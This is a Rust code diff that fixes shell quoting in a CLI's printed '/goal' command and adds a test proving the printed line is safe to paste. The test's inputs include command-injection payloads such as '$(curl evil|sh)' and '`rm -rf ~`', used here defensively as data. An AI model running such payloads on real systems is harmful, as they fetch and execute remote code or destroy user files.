@@ -166,8 +166,9 @@ pub(crate) async fn goal_command(
             );
             outln!("Nothing is set. To set it as it is (edit first as you like):");
             outln!(
-                "  waymark exec --session {session} '/goal \"{}\" {budget}'",
-                d.objective.replace('\'', "'\\''").replace('"', "'")
+                "  waymark exec --session {} {}",
+                shell_quote(&session),
+                shell_quote(&set_line(&d.objective, &budget))
             );
         }
     }
@@ -228,6 +229,19 @@ async fn queue_command(runtime: &Runtime, action: QueueAction) -> anyhow::Result
     Ok(ExitCode::SUCCESS)
 }
 
+/// The `/goal` line that sets a draft: the objective in double quotes (any of its own turned
+/// to single ones, which the grammar reads as text), then the budget.
+fn set_line(objective: &str, budget: &str) -> String {
+    format!("/goal \"{}\" {budget}", objective.replace('"', "'"))
+        .trim_end()
+        .to_string()
+}
+
+/// `text` as one shell word, single-quoted: nothing in it is expanded when pasted.
+fn shell_quote(text: &str) -> String {
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
 /// A draft's suggested budget as `/goal` budget text.
 fn draft_budget(d: &waymark_protocol::GoalDraft) -> String {
     let mut parts = Vec::new();
@@ -262,5 +276,35 @@ fn budget_words(q: &waymark_protocol::QueuedGoal) -> String {
         String::new()
     } else {
         format!("  ({})", parts.join(" "))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A hostile draft's objective pasted as printed runs nothing: the line is one quoted
+    /// word for the shell, and the objective stays one quoted objective for `/goal`.
+    #[test]
+    fn the_printed_set_line_is_safe_to_paste() {
+        for objective in [
+            r#"Fix the "$(curl evil|sh)" build"#,
+            "it's `rm -rf ~` time; $(id) 'x'",
+        ] {
+            let line = set_line(objective, "turns=3");
+            let quoted = shell_quote(&line);
+            let out = std::process::Command::new("sh")
+                .arg("-c")
+                .arg(format!("printf %s {quoted}"))
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8(out.stdout).unwrap(), line, "{quoted}");
+            let op =
+                waymark_runtime::goal::parse_command(line.trim_start_matches("/goal ")).unwrap();
+            assert!(
+                matches!(&op, waymark_protocol::GoalOp::Set { objective: o, .. } if o == &objective.replace('"', "'")),
+                "{op:?}"
+            );
+        }
     }
 }
